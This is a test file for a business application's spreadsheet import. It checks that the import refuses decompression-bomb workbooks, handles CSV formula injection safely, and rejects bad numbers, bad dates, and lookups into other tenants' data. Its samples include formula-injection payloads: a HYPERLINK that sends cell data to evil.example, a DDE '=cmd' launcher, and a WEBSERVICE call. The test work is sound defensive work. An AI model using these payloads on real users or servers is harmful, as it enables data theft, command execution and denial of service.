// Workbooks that nobody would fill in and somebody will send: what they hold is refused or taken literally, and the server
// goes on answering meanwhile.
import { describe, expect, it } from 'vitest'
import type { Tx } from '../../src/platform/database/database.ts'
import { aTenant, type Data, type Tenant } from '../harness/app.ts'
import {
  bring,
  csv,
  download,
  imported,
  places,
  plainBook,
  rawBook,
  rawRow,
  rowsOf,
  unzipped,
  type Row,
} from '../harness/excel.ts'
import { samplesOf } from '../harness/samples.ts'

const path = 'materialType/readExcel'
const titles = ['类型编码', '类型名称', '排序']
/** Ten times what it takes; without limits it was half a minute. */
const STALL = 5000
/** What is read in another thread takes this one a few milliseconds; here it took half a minute. */
const SHORT_STALL = 500
const unreadable = { status: 422, msg: '文件无法读取' }

/** Milliseconds for which this thread has worked: other programs on the machine do not count. */
function worked(): number {
  const { user, system } = process.threadCpuUsage()
  return (user + system) / 1000
}

/** The longest time that nobody else was served while the work was done. */
async function stalled<T>(work: () => Promise<T>): Promise<{ answer: T; ms: number }> {
  let [longest, last] = [0, worked()]
  const timer = setInterval(() => {
    const now = worked()
    ;[longest, last] = [Math.max(longest, now - last), now]
  }, 5)
  try {
    const answer = await work()
    return { answer, ms: Math.max(longest, worked() - last) }
  } finally {
    clearInterval(timer)
  }
}

const repeated = (text: string, times: number, pieces = 20): string[] =>
  Array.from({ length: pieces }, () => text.repeat(times / pieces))

describe('a small file that becomes a large one', () => {
  const cell = '<c><v>1</v></c>'
  it.each([
    ['millions of empty rows', () => rawBook([{ name: '数据', rows: repeated('<row/>', 20_000_000) }])],
    ['millions of cells', () => rawBook([{ name: '数据', rows: ['<row>', ...repeated(cell, 8_000_000), '</row>'] }])],
    [
      'millions of texts',
      () => rawBook([{ name: '数据', rows: [] }], { 'xl/sharedStrings.xml': repeated('<si/>', 20_000_000) }),
    ],
    ['marks without an end', () => rawBook([{ name: '数据', rows: repeated('<c ', 20_000_000) }])],
    [
      'texts without an end',
      () => rawBook([{ name: '数据', rows: [] }], { 'xl/sharedStrings.xml': repeated('<si><t>', 14_000_000) }),
    ],
    [
      'styles without an end',
      () => rawBook([{ name: '数据', rows: [] }], { 'xl/styles.xml': repeated('<cellXfs>', 10_000_000) }),
    ],
    ['a tag of a hundred megabytes', () => rawBook([{ name: '数据', rows: ['<c ', ...repeated('x', 99_000_000)] }])],
    [
      'a cell of a hundred megabytes',
      () => rawBook([{ name: '数据', rows: ['<row><c><v>', ...repeated('7', 99_000_000)] }]),
    ],
    [
      'more beside the sheet than may be unpacked',
      () => rawBook([{ name: '数据', rows: [] }], { 'xl/media/image1.png': repeated('x', 120_000_000) }),
    ],
    ['a row that does not exist', () => rawBook([{ name: '数据', rows: ['<row r="1e308">', cell, '</row>'] }])],
  ])(
    'with %s is refused, and others are served meanwhile',
    async (_, make) => {
      const { admin } = await aTenant()
      const bytes = await make()
      expect(bytes.length).toBeLessThan(2 * 1024 * 1024)
      const { answer, ms } = await stalled(() => bring(admin, path, bytes))
      expect(answer.status).toBe(422)
      expect(ms).toBeLessThan(STALL)
    },
    180_000,
  )

  const line = '<row><c><v>1</v></c><c><v>2</v></c></row>'
  const spelled = '<row><c t="inlineStr"><is><t>甲</t></is></c><c t="inlineStr"><is><t>乙</t></is></c></row>'
  const beside = '<row><c r="ZZ1"><v>1</v></c></row>'
  const shared = `<row>${'<c t="s"><v>0</v></c>'.repeat(16)}</row>`
  const long = {
    'xl/sharedStrings.xml': ['<sst count="1" uniqueCount="1"><si><t>', '长'.repeat(30_000), '</t></si></sst>'],
  }
  const tooMany = '最多导入5000行'
  const tooLarge = '文件过大，无法读取'
  it.each([
    ['a million rows', tooMany, () => rows(repeated(line, 1_000_000))],
    ['a million rows of texts', tooMany, () => rows(repeated(spelled, 1_000_000))],
    ['a million rows beside the columns', tooLarge, () => rows(repeated(beside, 1_000_000))],
    ['one long text in a million cells', tooLarge, () => rows(repeated(shared, 60_000), long)],
    [
      'a million rows, a dimension that denies them, and a thousand sheets',
      tooMany,
      () => {
        const first = {
          name: '数据',
          rows: ['<dimension ref="A1:C2"/>', rawRow(1, ...titles), ...repeated(line, 1_000_000)],
        }
        return rawBook([first, ...Array.from({ length: 1000 }, (_, at) => ({ name: `表${at}`, rows: [line] }))])
      },
    ],
  ])(
    'with %s is refused as soon as that is known: %s',
    async (_, msg, make) => {
      const { admin } = await aTenant()
      const bytes = await make()
      expect(bytes.length).toBeLessThan(2 * 1024 * 1024)
      const { answer, ms } = await stalled(() => bring(admin, path, bytes))
      expect(answer).toMatchObject({ status: 413, msg })
      expect(ms).toBeLessThan(SHORT_STALL)
    },
    180_000,
  )
  const rows = (data: readonly string[], more: Readonly<Record<string, readonly string[]>> = {}): Promise<Buffer> =>
    rawBook([{ name: '数据', rows: [rawRow(1, ...titles), ...data] }], more)

  it('by its merged cells has its errors told without them, and the server lives', async () => {
    const { admin } = await aTenant()
    const bytes = await rawBook([
      {
        name: '数据',
        rows: [rawRow(1, ...titles), rawRow(2, 'T1', '')],
        after: '<mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells>',
      },
    ])
    const { answer, ms } = await stalled(() => imported(admin, path, bytes))
    expect(places(answer)).toEqual(['B2 必填项不能为空'])
    expect(await rowsOf(await download(admin, answer.errorFileUrl.replace(/^api\//, '')))).toHaveLength(2)
    expect(ms).toBeLessThan(SHORT_STALL)
  }, 180_000)

  it('of commas is refused as well', async () => {
    const { admin } = await aTenant()
    const { answer, ms } = await stalled(() => bring(admin, path, Buffer.alloc(19 * 1024 * 1024, ','), {}, 'a.csv'))
    expect(answer).toMatchObject(unreadable)
    expect(ms).toBeLessThan(STALL)
  }, 180_000)

  it('has its errors marked in a thread of its own', async () => {
    const { admin } = await aTenant()
    const wide = Array.from({ length: 40 }, (_, at) => `<c><v>${at}</v></c>`).join('')
    const rows = Array.from({ length: 900 }, (_, at) => rawRow(at + 2, `T${at}`, `类型${at}`))
    const other = Array.from({ length: 4000 }, (_, at) => `<row r="${at + 1}">${wide}</row>`)
    const bytes = await rawBook([
      { name: '数据', rows: [rawRow(1, ...titles), ...rows, rawRow(902, 'T', '')] },
      { name: '另一张', rows: other },
    ])
    const { answer, ms } = await stalled(() => imported(admin, path, bytes, { dryRun: '1' }))
    expect(answer.failed).toBe(1)
    expect((await rowsOf(await download(admin, answer.errorFileUrl.replace(/^api\//, '')))).at(-1)).toContain(
      '第902行：必填项不能为空',
    )
    expect(ms).toBeLessThan(STALL)
  }, 180_000)
})

describe('a cell', () => {
  it('that looks like a formula is text: stored as it is, and no formula in any file that comes out', async () => {
    const { admin } = await aTenant()
    const nasty = [
      '=HYPERLINK("http://evil.example/?x="&A1,"打开")',
      `=cmd|'/C calc'!A0`,
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
    ]
    const rows = nasty.map((name, at) => [`F${at}`, name, 1])
    expect(await imported(admin, path, csv([titles, ...rows]), {}, 'a.csv')).toMatchObject({ inserted: 6 })
    const { list } = await admin.ok('materialType/list', { orderBy: 'code' })
    expect(list.map((row: { name: string }) => row.name)).toEqual(nasty.map((name) => name.trim()))
    const out = await download(admin, 'materialType/exportExcel', { orderBy: 'code' })
    const shown = await rowsOf(out)
    for (const [at, name] of nasty.entries()) expect(shown[at + 1]?.join('|')).toContain(`'${name.trim()}`)
    expect(await sheetXml(out)).not.toContain('<f>')
    // Brought back it is the same as before: the mark of the export is none of the text.
    expect(await imported(admin, path, out, { onDuplicate: 'update' })).toMatchObject({ updated: 6, failed: 0 })
    const again = await admin.ok('materialType/list', { orderBy: 'code' })
    expect(again.list.map((row: { name: string; version: number }) => [row.name, row.version])).toEqual(
      list.map((row: { name: string }) => [row.name, 1]),
    )
    const wrong = await imported(admin, path, csv([titles, ['', '=1+1', 'x']]), {}, 'a.csv')
    const marked = await download(admin, wrong.errorFileUrl.replace(/^api\//, ''))
    expect(await sheetXml(marked)).not.toMatch(/<f[\s>]/)
  })

  it('with a formula gives its last value, and never the formula', async () => {
    const { admin } = await aTenant()
    const formula = (text: string, value: string, kind = 'str'): string =>
      `<c t="${kind}"><f>${text}</f><v>${value}</v></c>`
    const bytes = await rawBook([
      {
        name: '数据',
        rows: [
          rawRow(1, ...titles),
          rawRow(
            2,
            'A1',
            formula('HYPERLINK(&quot;http://evil.example&quot;,&quot;看&quot;)', '看'),
            formula('1+1', '2', 'n'),
          ),
          rawRow(3, 'A2', formula('1/0', '#DIV/0!', 'e')),
          rawRow(4, 'A3', '<c><f>WEBSERVICE(&quot;http://evil.example&quot;)</f></c>'),
        ],
      },
    ])
    expect(places(await imported(admin, path, bytes, { mode: 'partial' }))).toEqual([
      'B3 单元格错误：#DIV/0!',
      'B4 必填项不能为空',
    ])
    expect((await admin.ok('materialType/list')).list).toMatchObject([{ name: '看', sort: 2 }])
  })

  it.each([
    ['1e308', 1e308],
    ['minus 1e308', -1e308],
    ['NaN', 'NaN'],
    ['infinity', 'Infinity'],
    ['hexadecimal', '0x10'],
    ['a number of 400 digits', '9'.repeat(400)],
  ])('with %s as a price says what is wrong', async (_, value) => {
    const tenant = await aTenant()
    await tenant.admin.ok('materialType/insert', { code: 'BL1', name: '模架件' })
    const rows: Row[] = [
      ['备件编码', '备件名称', '备件类型', '单位', '参考单价'],
      ['P1', '导柱', 'BL1', '个', value],
    ]
    const result = await imported(tenant.admin, 'accessory/readExcel', await plainBook(rows))
    expect(result).toMatchObject({ inserted: 0, failed: 1 })
    expect(places(result)[0]).toMatch(/^E2 (不是有效的数字|应在|不能)/)
  })

  it.each([
    ['a day before all days', '<c s="1"><v>-5</v></c>'],
    ['a day after all days', '<c s="1"><v>1e15</v></c>'],
    ['the year 10000', '<c s="1"><v>2958466</v></c>'],
    ['no day of any month', '2026-02-30'],
    ['a year without end', '99999999-01-01'],
    ['the beginning of counting', '0000-00-00'],
  ])('with %s as a date says what is wrong', async (_, cell) => {
    const { admin } = await aTenant()
    const styles = [
      '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>',
    ]
    const rows = [rawRow(1, '供应商名称', '供应商类别', '合作开始'), rawRow(2, '甲公司', '模具', cell)]
    const result = await imported(
      admin,
      'supplier/readExcel',
      await rawBook([{ name: '数据', rows }], { 'xl/styles.xml': styles }),
    )
    expect(places(result)).toContain('C2 日期格式应为yyyy-MM-dd')
    expect(result.inserted).toBe(0)
  })

  it('names nothing of another tenant and nothing out of sight, be it by code, name or id', async () => {
    const [tenant, other] = [await aTenant(), await aTenant()]
    const foreign = await samplesOf(other).row('warehouse', { code: 'FREMD', name: '别家的库', useLocation: true })
    const factory = await tenant.factory('二厂')
    const hidden = await samplesOf(tenant).row('warehouse', { code: 'FERN', name: '看不见的库', useLocation: true })
    const person = await tenant.person({
      orgId: factory,
      menus: ['locationFiles'],
      buttons: ['locationFiles_readExcel'],
    })
    const words = ['FREMD', '别家的库', foreign, 'FERN', '看不见的库', hidden]
    const rows = words.map((word, at) => [word, `L-${at}`, `位${at}`])
    const result = await imported(
      person,
      'cargoLocation/readExcel',
      await plainBook([['仓库', '库位编码', '库位名称'], ...rows]),
    )
    expect(result.inserted).toBe(0)
    expect(places(result).filter((place) => place.startsWith('A'))).toEqual(
      words.map((word, at) => `A${at + 2} 仓库不存在：${word}`),
    )
  })
})

describe('a sheet', () => {
  it('that is hidden is not read in place of the one that is seen', async () => {
    const { admin } = await aTenant()
    const bytes = await rawBook([
      { name: '暗', state: 'veryHidden', rows: [rawRow(1, ...titles), rawRow(2, 'H1', '藏起来的')] },
      { name: '明', rows: [rawRow(1, ...titles), rawRow(2, 'V1', '看得见的')] },
    ])
    expect(await imported(admin, path, bytes)).toMatchObject({ total: 1, inserted: 1 })
    expect((await admin.ok('materialType/list')).list).toMatchObject([{ code: 'V1' }])
    const allHidden = await rawBook([
      { name: '暗', state: 'hidden', rows: [rawRow(1, ...titles), rawRow(2, 'H1', '藏')] },
    ])
    expect(await bring(admin, path, allHidden)).toMatchObject({ status: 422, msg: '模板不匹配，请重新下载' })
  })

  it('with merged cells counts the first of them; the others are empty', async () => {
    const { admin } = await aTenant()
    const rows = [rawRow(1, ...titles), rawRow(2, 'M1', '合并'), rawRow(3, 'M2')]
    const bytes = await rawBook([
      { name: '数据', rows, after: '<mergeCells count="1"><mergeCell ref="B2:B3"/></mergeCells>' },
    ])
    expect(places(await imported(admin, path, bytes))).toEqual(['B3 必填项不能为空'])
  })

  it('that only we can read has its errors told all the same', async () => {
    const { admin } = await aTenant()
    const bytes = await rawBook([{ name: '数据', rows: [rawRow(1, ...titles), rawRow(2, 'X1', '')] }], {
      'xl/styles.xml': ['<styleSheet><cellXfs><xf numFmtId="x"'],
      '[Content_Types].xml': ['<<<'],
    })
    const result = await imported(admin, path, bytes)
    expect(places(result)).toEqual(['B2 必填项不能为空'])
    expect(await rowsOf(await download(admin, result.errorFileUrl.replace(/^api\//, '')))).toHaveLength(2)
  })
})

describe('many rows of which the database refuses some', () => {
  it('are stored but for these, each told at its row', async () => {
    const tenant = await aTenant()
    const { admin } = tenant
    await admin.ok('materialType/insert', { code: 'BL1', name: '模架件' })
    const parts = (codes: readonly string[]): Row[] => [
      ['备件编码', '备件名称', '备件类型', '单位'],
      ...codes.map((code) => [code, `件${code}`, 'BL1', '个']),
    ]
    const codes = Array.from({ length: 300 }, (_, at) => `Q-${at}`)
    let importing: Promise<Data> | undefined
    // Somebody else makes two of them after the check and before the storing: the check cannot see them.
    await tenant.inTenant(async (tx) => {
      for (const code of ['Q-7', 'Q-250']) await aPartBehindTheBack(tx, tenant, code)
      importing = imported(admin, 'accessory/readExcel', await plainBook(parts(codes)), { mode: 'partial' })
      await expect.poll(() => isWaiting(tx)).toBe(true)
    })
    const result = await importing
    expect(result).toMatchObject({ total: 300, inserted: 298, failed: 2 })
    expect(places(result)).toEqual(['A9 编码已存在', 'A252 编码已存在'])
    const { rows } = await tenant.inTenant((tx) =>
      tx.send({
        text: `SELECT count(*)::int AS told, count(DISTINCT row_id)::int AS rows
FROM operation_log
WHERE resource = 'accessory' AND action = 'insert' AND source = 'import'`,
        values: [],
      }),
    )
    expect(rows).toEqual([{ told: 298, rows: 298 }])
    expect((await admin.ok('accessory/count')).totalRow).toBe(300)
  })

  it('that have no number of their own are given consecutive ones', async () => {
    const tenant = await aTenant()
    await tenant.admin.ok('materialType/insert', { code: 'BL1', name: '模架件' })
    const rows = Array.from({ length: 120 }, (_, at) => [`件${at}`, 'BL1', '个'])
    await imported(tenant.admin, 'accessory/readExcel', await plainBook([['备件名称', '备件类型', '单位'], ...rows]))
    const { list } = await tenant.admin.ok('accessory/list', { orderBy: 'id', pageSize: 200 })
    const serials = list.map(({ code }: { code: string }) => Number(/\d+$/.exec(code)?.[0]))
    expect(serials.map((serial: number) => serial - serials[0])).toEqual(rows.map((_, at) => at))
    expect(list.map(({ name }: { name: string }) => name)).toEqual(rows.map(([name]) => name))
  })
})

async function aPartBehindTheBack(tx: Tx, tenant: Tenant, code: string): Promise<void> {
  await tx.send({
    text: `INSERT INTO accessory (id, org_id, code, name, type_id, unit, create_time, update_time)
SELECT gen_random_uuid(), $1, $2, $2, t.id, '个', t.create_time, t.update_time FROM material_type t LIMIT 1`,
    values: [tenant.rootOrgId, code],
  })
}

/** Whether somebody waits for this transaction. */
async function isWaiting(tx: Tx): Promise<boolean> {
  const { rows } = await tx.send({
    text: `SELECT EXISTS (SELECT FROM pg_locks WHERE NOT granted AND transactionid = pg_current_xact_id()::xid) AS waiting`,
    values: [],
  })
  return rows[0]?.waiting === true
}

/** The XML of the sheets in a workbook. */
async function sheetXml(bytes: Buffer): Promise<string> {
  const files = await unzipped(bytes)
  return [...files].map(([path, file]) => (path.includes('worksheets/') ? String(file) : '')).join('')
}
